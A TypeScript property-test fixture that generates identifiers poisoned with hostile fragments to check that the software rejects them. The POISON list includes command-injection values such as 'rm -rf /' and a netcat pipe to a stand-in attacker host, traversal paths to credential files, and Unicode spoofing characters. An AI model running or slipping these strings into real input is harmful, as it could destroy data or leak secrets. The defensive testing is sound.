/** The raw material of the hostile-input properties: fragments no identifier, instant or enum may hold. */
import fc from 'fast-check';

export const POISON = [
  '; reboot',
  '$(id)',
  '`id`',
  '| nc attacker 4444',
  '&& rm -rf /',
  "'",
  '"',
  '\\',
  '\n',
  '\n--json',
  '\r\n',
  '\u0000',
  '\u001b[2J',
  '../../etc/passwd',
  '/etc/shadow',
  ' ',
  '\u202e', // right-to-left override
  '\u200b', // zero-width space
  '\u0435', // Cyrillic e, looks like e
  '😀',
  '*',
  '{{ runId }}',
  '%0a',
  '<script>',
];

/** A plausible identifier with one poison fragment inside. */
export const poisoned = fc
  .tuple(
    fc.stringMatching(/^[A-Za-z0-9]{0,12}$/),
    fc.constantFrom(...POISON),
    fc.stringMatching(/^[A-Za-z0-9._-]{0,12}$/),
  )
  .map(([a, p, b]) => `${a}${p}${b}`);

/** Longer than any field rejuv accepts. */
export const huge = (minLength: number) =>
  fc.integer({ min: minLength, max: 120_000 }).map((n) => 'x'.repeat(n));

/** Fixed unless FAST_CHECK_SEED says otherwise, so CI is reproducible; any other seed explores further. */
export const FAST_CHECK_SEED = Number(process.env['FAST_CHECK_SEED'] ?? 20261125);
